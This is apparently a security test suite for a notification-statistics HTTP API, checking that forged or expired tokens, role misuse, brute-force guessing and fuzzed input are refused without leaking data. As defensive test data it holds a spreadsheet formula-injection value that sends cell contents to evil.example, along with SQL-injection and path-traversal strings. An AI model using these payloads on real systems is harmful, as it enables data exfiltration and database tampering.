import { randomUUID } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { SignJWT, UnsecuredJWT } from 'jose';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify';
import { INVALID_TOKEN, ROLE_MESSAGES, SESSION_ISSUER, buildApp, type AppDeps } from '@notify-stats/api';
import { migrate, openClickhouse, type Clickhouse } from '@notify-stats/clickhouse';
import { tempDir } from '../support/broker.ts';
import { ADMIN, OPERATOR, adminToken, operatorToken } from '../support/pipeline.ts';

// A database that holds data, so that "no data in the body" of a refusal can fail: every
// endpoint is first shown to answer its data to the right credential (see "answers ... data").
const DAY = '2024-04-10';
const RANGE = 'start_date=2024-04-01&end_date=2024-04-30';
const ORG = 'a8000000-0000-4000-8000-000000000001';
const S = 'c8000000-0000-4000-8000-000000000001'; // has an API key
const S_NO_KEYS = 'c8000000-0000-4000-8000-000000000002'; // a service, but no key
const S_SHORT = 'c8000000-0000-4000-8000-000000000003'; // a one-character key, stored before the contract refused them
const KEY = { id: 'd8000000-0000-4000-8000-000000000001', secret: 'hostile-key-secret-0123456789abcdef' };
const KEY_SHORT = { id: 'd8000000-0000-4000-8000-000000000003', secret: 'k' };
const SERVICE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
// London midnights of 1 April and 1 May 2024 (BST).
const UNIX_RANGE = 'start=1711926000&end=1714518000';

interface Endpoint {
  method: 'GET' | 'POST' | 'DELETE';
  path: string;
  query: string;
  /** Who may call it: the right credential, used once to show the data a refusal must not carry. */
  who: 'reader' | 'service' | 'operator' | 'client' | 'session';
  /** In the body of the right credential's answer: the data a refusal must not show. */
  data: string;
}
const ENDPOINTS: Endpoint[] = [
  { method: 'GET', path: '/platform-stats', query: RANGE, who: 'reader', data: '"total":7' },
  { method: 'GET', path: '/platform-stats/data-for-billing-report', query: RANGE, who: 'reader', data: S },
  { method: 'GET', path: '/platform-stats/data-for-dvla-billing-report', query: RANGE, who: 'reader', data: '"letters":4' },
  { method: 'GET', path: '/platform-stats/daily-volumes-report', query: RANGE, who: 'reader', data: '"sms_totals":5' },
  { method: 'GET', path: '/platform-stats/daily-sms-provider-volumes-report', query: RANGE, who: 'reader', data: '"sms_cost":0.1' },
  { method: 'GET', path: '/platform-stats/volumes-by-service', query: RANGE, who: 'reader', data: S },
  { method: 'GET', path: '/v2/stats/messaging', query: UNIX_RANGE, who: 'service', data: '"messagesSentParts":5' },
  { method: 'GET', path: '/v2/stats/spending', query: UNIX_RANGE, who: 'service', data: '"resources"' },
  { method: 'GET', path: '/v1/statistics/cost-resume', query: 'interval=custom&from=01-04-2024&to=30-04-2024', who: 'service', data: '"cost":"0.1"' },
  { method: 'GET', path: '/admin/rollups/status', query: '', who: 'operator', data: '"dirty-days-marker"' },
  { method: 'GET', path: '/admin/pipeline/status', query: '', who: 'operator', data: '"partitions-marker"' },
  { method: 'POST', path: '/admin/ingest/pause', query: '', who: 'operator', data: '"paused":true' },
  { method: 'POST', path: '/admin/ingest/resume', query: '', who: 'operator', data: '"paused":false' },
  { method: 'POST', path: '/admin/rollups/backfill', query: 'from=2024-04-01&to=2024-04-02', who: 'operator', data: '"finished":true' },
  { method: 'POST', path: '/auth/session', query: '', who: 'client', data: '"token"' },
  { method: 'POST', path: '/auth/session/renew', query: '', who: 'session', data: '"token"' },
];
const urlOf = (e: Endpoint) => (e.query ? `${e.path}?${e.query}` : e.path);
// What no refusal may carry: the endpoints' data, and anything of the engine or the code.
const DATA = [S, 'HYPERLINK', ...ENDPOINTS.map((e) => e.data)];
const INTERNALS = /clickhouse|\bsql\b|select |stack|node_modules|\.ts\b|Error:|\bat [\w.<>]+ \(|ECONN|chdb|ref_api_keys/i;

const ARTIFACTS = fileURLToPath(new URL('../../test-artifacts/', import.meta.url));
// Every request this file sends, by outcome: the figures docs/reliability.md records.
const tally = { tried: 0, refused: 0, answered: 0, serverErrors: 0 };
function count(status: number): void {
  tally.tried++;
  if (status >= 500) tally.serverErrors++;
  else if (status >= 400) tally.refused++;
  else tally.answered++;
}

let ch: Clickhouse;
let app: FastifyInstance;
let base: string;
const sideEffects: string[] = [];
const others: FastifyInstance[] = [];

function pipelineStubs(): Partial<AppDeps> {
  return {
    ingest: {
      pause: async () => void sideEffects.push('pause'),
      resume: async () => void sideEffects.push('resume'),
      isPaused: () => false,
    },
    rollups: {
      backfill: async () => void sideEffects.push('backfill'),
      status: async () => (sideEffects.push('rollups status'), { 'dirty-days-marker': 1 }),
    },
    pipelineStatus: async () => (sideEffects.push('pipeline status'), { kafka: { 'partitions-marker': [] } }),
  };
}

/** An app on the shared engine; the main one has limits high enough for the credential matrix. */
async function newApp(overrides: Partial<AppDeps> = {}): Promise<FastifyInstance> {
  const a = await buildApp({
    clickhouse: ch.client,
    admin: ADMIN,
    operator: OPERATOR,
    dataAsOf: async () => null,
    readiness: {},
    ...pipelineStubs(),
    ...overrides,
  });
  others.push(a);
  return a;
}

async function insert(table: string, values: object[]): Promise<void> {
  await ch.client.insert({ table, values, format: 'JSONEachRow' });
}

beforeAll(async () => {
  ch = await openClickhouse({ path: tempDir('hostile') });
  await migrate(ch.client);
  let version = 0;
  const ref = (key: string) => ({ key, version: ++version, is_deleted: 0 });
  const billing = { purchase_order_number: null, billing_contact_names: null, billing_contact_email_addresses: null, billing_reference: null };
  await insert('ref_organisations', [{ ...ref(`organisation:${ORG}`), id: ORG, name: '@org', ...billing }]);
  await insert(
    'ref_services',
    [
      [S, SERVICE_NAME, ORG],
      [S_NO_KEYS, 'No keys', null],
      [S_SHORT, 'Short key', null],
    ].map(([id, name, org]) => ({ ...ref(`service:${id}`), id, name, organisation_id: org, restricted: false, active: true, count_as_live: true, ...billing })),
  );
  await insert(
    'ref_api_keys',
    [
      [KEY, S],
      [KEY_SHORT, S_SHORT],
    ].map(([k, service]) => {
      const key = k as typeof KEY;
      return { ...ref(`api_key:${key.id}`), id: key.id, service_id: service, secret: key.secret, revoked: false };
    }),
  );
  const zero = '00000000-0000-0000-0000-000000000000';
  await insert('fact_notification_status', [
    { day: DAY, service_id: S, template_id: zero, job_id: zero, notification_type: 'sms', key_type: 'normal', status: 'delivered', notification_count: 7 },
  ]);
  await insert('fact_billing', [
    { day: DAY, service_id: S, template_id: zero, notification_type: 'sms', provider: 'mmg', rate_multiplier: 1, international: false, rate: '0.02', postage: '', sheets: 0, notifications_sent: 5, billable_units: 5, chargeable_units: 5 },
    { day: DAY, service_id: S, template_id: zero, notification_type: 'letter', provider: 'dvla', rate_multiplier: 1, international: false, rate: '0.5', postage: 'second', sheets: 1, notifications_sent: 4, billable_units: 4, chargeable_units: 4 },
  ]);
  await insert('fact_letter_despatch', [{ day: DAY, postage: 'second', cost_threshold: 'sorted', sheets: 1, rate: '0.5', letters: 4 }]);

  app = await newApp({ rateLimitPerMinute: 100_000, authFailuresPerMinute: 100_000, keyFailuresPerMinute: 100_000 });
  base = await app.listen({ port: 0, host: '127.0.0.1' });
});
afterAll(async () => {
  for (const a of others) await a.close();
  await ch?.close();
  // The figures of docs/reliability.md, also left in test-artifacts/.
  mkdirSync(ARTIFACTS, { recursive: true });
  writeFileSync(path.join(ARTIFACTS, 'hostile-http-figures.json'), `${JSON.stringify(tally, null, 2)}\n`);
  process.stdout.write(`hostile-http figures: ${JSON.stringify(tally)}\n`);
});

const now = () => Math.floor(Date.now() / 1000);
const sign = (claims: { iss?: string; iat?: number; sub?: string; exp?: number }, secret = ADMIN.secret) => {
  let jwt = new SignJWT(claims.sub ? { sub: claims.sub, sid: randomUUID(), auth_time: now() } : {}).setProtectedHeader({ alg: 'HS256', typ: 'JWT' });
  if (claims.iss !== undefined) jwt = jwt.setIssuer(claims.iss);
  if (claims.iat !== undefined) jwt = jwt.setIssuedAt(claims.iat);
  if (claims.exp !== undefined) jwt = jwt.setExpirationTime(claims.exp);
  return jwt.sign(new TextEncoder().encode(secret));
};
const serviceToken = (iss = S, secret = KEY.secret) => sign({ iss, iat: now() }, secret);

/** Over real HTTP, as a client sends it. */
const call = async (path: string, authorization?: string, method: Endpoint['method'] = 'GET') => {
  const res = await fetch(`${base}${path}`, { method, headers: authorization === undefined ? {} : { authorization } });
  const out = { status: res.status, body: await res.text(), headers: res.headers };
  count(out.status);
  return out;
};
/** In process, from any source address. */
const inject = async (target: FastifyInstance, opts: InjectOptions): Promise<LightMyRequestResponse> => {
  const res = await target.inject(opts);
  count(res.statusCode);
  return res;
};

async function rightCredential(e: Endpoint): Promise<string> {
  if (e.who === 'reader') return adminToken();
  if (e.who === 'service') return serviceToken();
  if (e.who === 'operator') return operatorToken();
  if (e.who === 'client') return adminToken();
  const res = await call('/auth/session', `Bearer ${await adminToken()}`, 'POST');
  return (JSON.parse(res.body) as { token: string }).token;
}

/** A refusal: the documented envelope, a message with nothing internal in it, and no data. */
function expectRefusal(e: Endpoint, res: { status: number; body: string }, statuses: number[], name = ''): void {
  const where = `${e.method} ${e.path} ${name}`;
  expect({ where, status: res.status }).toEqual({ where, status: expect.toSatisfy((s: number) => statuses.includes(s)) });
  const body = JSON.parse(res.body) as Record<string, unknown>;
  if (e.path === '/v1/statistics/cost-resume') expect(Object.keys(body).sort(), where).toEqual(['code', 'message', 'success']);
  else expect(Object.keys(body).sort(), where).toEqual(['message', 'status_code']);
  expect(String(body.message), where).not.toMatch(INTERNALS);
  for (const d of DATA) expect(res.body, `${where}: ${d}`).not.toContain(d);
}

describe('hostile requests', () => {
  it('answers each endpoint its data to the right credential (so the refusals below can fail)', async () => {
    for (const e of ENDPOINTS) {
      const res = await call(urlOf(e), `Bearer ${await rightCredential(e)}`, e.method);
      expect({ path: e.path, status: res.status }).toEqual({ path: e.path, status: 200 });
      expect(res.body, e.path).toContain(e.data);
    }
    expect(sideEffects).toEqual(['rollups status', 'pipeline status', 'pause', 'resume', 'backfill']);
    sideEffects.length = 0;
  });

  // [name, authorization, statuses, the message every endpoint must answer (one for all unknown
  // issuers and wrong signatures: a refusal never says what exists)]
  const badTokens: Array<[string, () => Promise<string | undefined>, number[], string?]> = [
    ['no header', async () => undefined, [401]],
    ['not bearer', async () => 'Basic bm90aWZ5OnNlY3JldA==', [401]],
    ['malformed token', async () => 'Bearer not.a.jwt', [403]],
    ['empty bearer', async () => 'Bearer ', [401]],
    ['alg none', async () => `Bearer ${new UnsecuredJWT({}).setIssuer(ADMIN.clientId).setIssuedAt().encode()}`, [403]],
    ['wrong secret', async () => `Bearer ${await sign({ iss: ADMIN.clientId, iat: now() }, 'someone-elses-secret-0123')}`, [403], INVALID_TOKEN],
    ['operator id, reader secret', async () => `Bearer ${await sign({ iss: OPERATOR.clientId, iat: now() }, ADMIN.secret)}`, [403], INVALID_TOKEN],
    ['wrong issuer', async () => `Bearer ${await sign({ iss: 'intruder', iat: now() })}`, [403], INVALID_TOKEN],
    ['stale iat', async () => `Bearer ${await sign({ iss: ADMIN.clientId, iat: now() - 120 })}`, [403]],
    ['future iat', async () => `Bearer ${await sign({ iss: ADMIN.clientId, iat: now() + 120 })}`, [403]],
    ['no iat', async () => `Bearer ${await sign({ iss: ADMIN.clientId })}`, [403]],
    ['random service id', async () => `Bearer ${await serviceToken(randomUUID())}`, [403], INVALID_TOKEN],
    ['a service without keys', async () => `Bearer ${await serviceToken(S_NO_KEYS)}`, [403], INVALID_TOKEN],
    ['a one-character key secret', async () => `Bearer ${await serviceToken(S_SHORT, KEY_SHORT.secret)}`, [403], INVALID_TOKEN],
    ['a session signed with the raw secret', async () => `Bearer ${await sign({ iss: SESSION_ISSUER, sub: ADMIN.clientId, iat: now(), exp: now() + 60 })}`, [403], INVALID_TOKEN],
    [
      'an ended session',
      async () => {
        const session = (JSON.parse((await call('/auth/session', `Bearer ${await adminToken()}`, 'POST')).body) as { token: string }).token;
        expect((await call('/auth/session', `Bearer ${session}`, 'DELETE')).status).toBe(204);
        return `Bearer ${session}`;
      },
    [403]],
  ];
  it.each(ENDPOINTS.map((e) => [`${e.method} ${e.path}`, e] as const))('%s refuses every bad credential with 401/403, no data and nothing internal', async (_name, e) => {
    for (const [name, token, statuses, message] of badTokens) {
      const res = await call(urlOf(e), await token(), e.method);
      // A service route may first refuse a malformed service_id or both kinds of credential (400).
      expectRefusal(e, res, e.path.startsWith('/v') ? [...statuses, 400, 401, 403] : statuses, name);
      if (message) expect({ name, message: JSON.parse(res.body).message }).toEqual({ name, message });
    }
    expect(sideEffects).toEqual([]);
  });

  it('refuses every other kind of credential on each route: a report reader cannot operate, a service reads only its own', async () => {
    const reader = `Bearer ${await adminToken()}`;
    const service = `Bearer ${await serviceToken()}`;
    for (const e of ENDPOINTS.filter((x) => x.who === 'operator')) {
      const res = await call(urlOf(e), reader, e.method);
      expectRefusal(e, res, [403]);
      expect(JSON.parse(res.body).message).toBe(ROLE_MESSAGES.operatorOnly);
      expectRefusal(e, await call(urlOf(e), service, e.method), [403]);
    }
    for (const e of ENDPOINTS.filter((x) => x.who === 'reader' || x.who === 'client' || x.who === 'session')) {
      expectRefusal(e, await call(urlOf(e), service, e.method), [403]);
    }
    for (const e of ENDPOINTS.filter((x) => x.who === 'service')) {
      expectRefusal(e, await call(`${urlOf(e)}&service_id=${S_NO_KEYS}`, service, e.method), [403]);
    }
    expect(sideEffects).toEqual([]);
  });

  it('gives the same 403 body whether the service or key exists or not', async () => {
    for (const path of ['/v2/stats/messaging', '/v2/stats/spending', '/v1/statistics/cost-resume?interval=last_month']) {
      const bodies = new Set<string>();
      for (const iss of [S, S_NO_KEYS, S_SHORT, randomUUID()]) {
        const res = await call(path, `Bearer ${await serviceToken(iss, 'a-guess-0123456789abcdefghijklmnop')}`);
        expect(res.status).toBe(403);
        bodies.add(res.body);
      }
      expect([...bodies], path).toHaveLength(1);
      expect(JSON.parse([...bodies][0]!).message).toBe(INVALID_TOKEN);
    }
    const byKey = new Set<string>();
    for (const id of [KEY.id, KEY_SHORT.id, randomUUID()]) {
      byKey.add((await call(`/v1/statistics/cost-resume?interval=last_month&apiKey=${id}:a-guess`)).body);
    }
    byKey.add((await call(`/v1/statistics/cost-resume?interval=last_month&apiKey=${KEY_SHORT.id}:${KEY_SHORT.secret}`)).body);
    expect([...byKey]).toEqual([JSON.stringify({ success: false, code: 10, message: 'Incorrect API Key' })]);
  });

  it('keeps /metrics and the OpenAPI document off the report port, whatever the credential', async () => {
    for (const path of ['/metrics', '/docs', '/docs/json', '/docs/static/index.html']) {
      for (const authorization of [undefined, `Bearer ${await adminToken()}`, `Bearer ${await operatorToken()}`]) {
        const res = await call(path, authorization);
        expect({ path, status: res.status }).toEqual({ path, status: 404 });
        expect(res.body).not.toMatch(/notify_stats_|openapi/);
      }
    }
  });

  it('neutralises formulas in the CSV a spreadsheet opens', async () => {
    const res = await call(`/platform-stats/volumes-by-service?${RANGE}&format=csv`, `Bearer ${await adminToken()}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="volumes-by-service_2024-04-01_2024-04-30.csv"');
    // fetch's text() drops the byte order mark; the bytes have it.
    const bytes = Buffer.from(await (await fetch(`${base}/platform-stats/volumes-by-service?${RANGE}&format=csv`, { headers: { authorization: `Bearer ${await adminToken()}` } })).arrayBuffer());
    count(200);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""Open"")",${S},'@org,`);
    expect(res.body).not.toMatch(/(^|\n|,)"?[=+\-@]/);
  });

  it('refuses an over-long query string before any route sees it', async () => {
    const res = await call(`/platform-stats?start_date=${'9'.repeat(100_000)}`, `Bearer ${await adminToken()}`);
    expect([414, 431]).toContain(res.status);
  });

  it('answers injection attempts in every parameter with the format error, never a 5xx', async () => {
    const token = `Bearer ${await adminToken()}`;
    const attempts = ["2024-01-01' OR '1'='1", '2024-01-01;DROP TABLE fact_billing', '2024-01-01%00', '{start: Date}', '2024-01-01 UNION SELECT 1', '../../etc/passwd'];
    for (const e of ENDPOINTS.slice(0, 6)) {
      for (const attempt of attempts) {
        for (const param of ['start_date', 'end_date']) {
          const other = param === 'start_date' ? 'end_date=2024-04-30' : 'start_date=2024-04-01';
          const res = await call(`${e.path}?${other}&${param}=${encodeURIComponent(attempt)}`, token);
          expect({ endpoint: e.path, attempt, status: res.status }).toEqual({ endpoint: e.path, attempt, status: 400 });
          expect(JSON.parse(res.body)).toEqual({ message: 'Input must be a date in the format: YYYY-MM-DD', status_code: 400 });
        }
      }
      // `format` belongs to the list reports; /platform-stats ignores unknown parameters.
      const format = await call(`${e.path}?${RANGE}&format=${encodeURIComponent("csv' OR 1=1")}`, token);
      expect({ endpoint: e.path, status: format.status }).toEqual({ endpoint: e.path, status: e.path === '/platform-stats' ? 200 : 400 });
    }
    expect((await call(`/v2/stats/messaging?service_id=${encodeURIComponent("x' OR 1=1")}`, token)).status).toBe(400);
    // The operator's backfill takes dates too.
    const operator = `Bearer ${await operatorToken()}`;
    for (const attempt of attempts) {
      const res = await call(`/admin/rollups/backfill?from=${encodeURIComponent(attempt)}&to=2024-04-02`, operator, 'POST');
      expect({ attempt, status: res.status }).toEqual({ attempt, status: 400 });
    }
    expect(sideEffects).toEqual([]);
  });

  it('answers huge date ranges without a 5xx', async () => {
    const token = `Bearer ${await adminToken()}`;
    for (const endpoint of ['/platform-stats', '/platform-stats/daily-volumes-report', '/platform-stats/daily-sms-provider-volumes-report', '/platform-stats/volumes-by-service']) {
      const res = await call(`${endpoint}?start_date=0001-01-01&end_date=9999-12-31`, token);
      expect({ endpoint, status: res.status }).toEqual({ endpoint, status: 200 });
    }
    const fy = await call('/platform-stats/data-for-billing-report?start_date=0001-01-01&end_date=9999-12-31', token);
    expect(JSON.parse(fy.body)).toEqual({ message: 'Date must be in a single financial year.', status_code: 400 });
    const backfill = await call('/admin/rollups/backfill?from=0001-01-01&to=9999-12-31', `Bearer ${await operatorToken()}`, 'POST');
    expect(backfill.status).toBe(400);
    expect(sideEffects).toEqual([]);
  });

  it('never answers 5xx to fuzzed query strings on any endpoint', async () => {
    const tokens = { reader: `Bearer ${await adminToken()}`, operator: `Bearer ${await operatorToken()}` };
    // Every GET endpoint, with the right credential: the query reaches every check.
    const gets = ENDPOINTS.filter((e) => e.method === 'GET' && e.who !== 'service');
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...gets), fc.string({ maxLength: 60 }), async (e, query) => {
        const res = await call(`${e.path}?${encodeURI(query).replace(/#/g, '%23')}`, e.who === 'operator' ? tokens.operator : tokens.reader);
        expect(res.status).toBeLessThan(500);
      }),
      { numRuns: 40 },
    );
  });
});

describe('limits that cannot be bypassed', () => {
  // The limits count in one-minute windows and the key snapshot lasts 5 s: on a frozen clock,
  // however slowly this machine runs, no window ends and no snapshot expires mid-test.
  beforeEach(() => void vi.useFakeTimers({ toFake: ['Date'], now: Date.now() }));
  afterEach(() => void vi.useRealTimers());

  const fromAddress = (remoteAddress: string, url: string, token?: string, method: Endpoint['method'] = 'GET'): InjectOptions => ({
    method,
    url,
    remoteAddress,
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });

  it('answers 429 with Retry-After once a client passes its limit, and keeps other clients apart', async () => {
    const limited = await newApp({ rateLimitPerMinute: 5 });
    const statuses: number[] = [];
    let last: LightMyRequestResponse | undefined;
    for (let i = 0; i < 7; i++) {
      last = await inject(limited, fromAddress('127.0.0.1', `/platform-stats?${RANGE}`, await adminToken()));
      statuses.push(last.statusCode);
    }
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
    expect(Number(last?.headers['retry-after'])).toBeGreaterThan(0);
    expect(last?.json()).toMatchObject({ status_code: 429 });
    // Refused credentials do not use the client's budget up: they are counted against their address.
    const forged = await inject(limited, fromAddress('127.0.0.1', `/platform-stats?${RANGE}`, await sign({ iss: ADMIN.clientId, iat: now() }, 'someone-elses-secret-0123')));
    expect(forged.statusCode).toBe(403);
    expect((await inject(limited, fromAddress('127.0.0.1', `/platform-stats?${RANGE}`, await operatorToken()))).statusCode).toBe(200);
  });

  it('counts an admin token on the service routes (the review: 6 calls at a limit of 2 were all 200)', async () => {
    const limited = await newApp({ rateLimitPerMinute: 2 });
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const path = i % 2 ? '/v2/stats/spending' : '/v2/stats/messaging';
      statuses.push((await inject(limited, fromAddress('127.0.0.1', `${path}?${UNIX_RANGE}&service_id=${S}`, await adminToken()))).statusCode);
    }
    expect(statuses).toEqual([200, 200, 429, 429, 429, 429]);
    // A session token of the same client shares the budget; the operator's /admin calls have theirs.
    const session = await inject(limited, fromAddress('127.0.0.1', '/auth/session', await adminToken(), 'POST'));
    expect(session.statusCode).toBe(429);
    expect((await inject(limited, fromAddress('127.0.0.1', '/admin/rollups/status', await operatorToken()))).statusCode).toBe(200);
  });

  it('answers a flood of random issuers from memory: no query of its own, then 429 per address before anything', async () => {
    const limited = await newApp(); // the production limits: 30 failures a minute per address
    // One read of the keys, done before the flood.
    expect((await inject(limited, fromAddress('10.1.0.1', `/v2/stats/messaging?${UNIX_RANGE}`, await serviceToken()))).statusCode).toBe(200);
    const queries = vi.spyOn(ch.client, 'query');
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 50; i++) {
        statuses.push((await inject(limited, fromAddress('10.1.0.2', `/v2/stats/messaging?${UNIX_RANGE}`, await serviceToken(randomUUID())))).statusCode);
      }
      expect(statuses.filter((s) => s === 403)).toHaveLength(30);
      expect(statuses.slice(30)).toEqual(Array(20).fill(429));
      // Locked: the address's right credential is refused too, on every route, before anything is read.
      const locked = await inject(limited, fromAddress('10.1.0.2', `/platform-stats?${RANGE}`, await adminToken()));
      expect(locked.json()).toEqual({ message: 'Too many failed authentication attempts: retry in 60 seconds', status_code: 429 });
      expect(locked.headers['retry-after']).toBe('60');
      // From many addresses, random key ids: refused, still without a query.
      for (let i = 0; i < 50; i++) {
        const res = await inject(limited, fromAddress(`10.2.${i}.1`, `/v1/statistics/cost-resume?interval=last_month&apiKey=${randomUUID()}:guess`));
        expect(res.statusCode).toBe(403);
      }
      expect(queries).not.toHaveBeenCalled();
    } finally {
      queries.mockRestore();
    }
  });

  it('counts failed apiKey guesses against the key id, from any address (the review: never counted)', async () => {
    const limited = await newApp(); // 10 failures a minute per key id
    const guess = (secret: string, from: string) => inject(limited, fromAddress(from, `/v1/statistics/cost-resume?interval=last_month&apiKey=${KEY.id}:${secret}`));
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await guess(`guess-${i}`, `10.3.${i}.1`)).statusCode);
    expect(statuses).toEqual([...Array(10).fill(403), 429, 429]);
    // The right secret is refused as well until the minute is over: a guesser cannot tell.
    const right = await guess(KEY.secret, '10.3.99.1');
    expect(right.json()).toEqual({ success: false, code: 429, message: 'Too many failed authentication attempts: retry in 60 seconds' });
    // A key that was not guessed at works.
    expect((await inject(limited, fromAddress('10.3.99.1', `/v2/stats/messaging?${UNIX_RANGE}&service_id=${S}`, await adminToken()))).statusCode).toBe(200);
  });

  it('never lets a one-character key secret in, guessed or not', async () => {
    const limited = await newApp({ keyFailuresPerMinute: 0, authFailuresPerMinute: 0 });
    for (const secret of ['a', 'k', 'z', KEY_SHORT.secret]) {
      const res = await inject(limited, fromAddress('10.4.0.1', `/v1/statistics/cost-resume?interval=last_month&apiKey=${KEY_SHORT.id}:${secret}`));
      expect(res.statusCode).toBe(403);
    }
    expect((await inject(limited, fromAddress('10.4.0.1', `/v2/stats/messaging?${UNIX_RANGE}`, await serviceToken(S_SHORT, KEY_SHORT.secret)))).statusCode).toBe(403);
  });

  it('never answered a 5xx', () => {
    expect(tally.serverErrors).toBe(0);
    expect(tally.tried).toBeGreaterThan(500);
  });
});
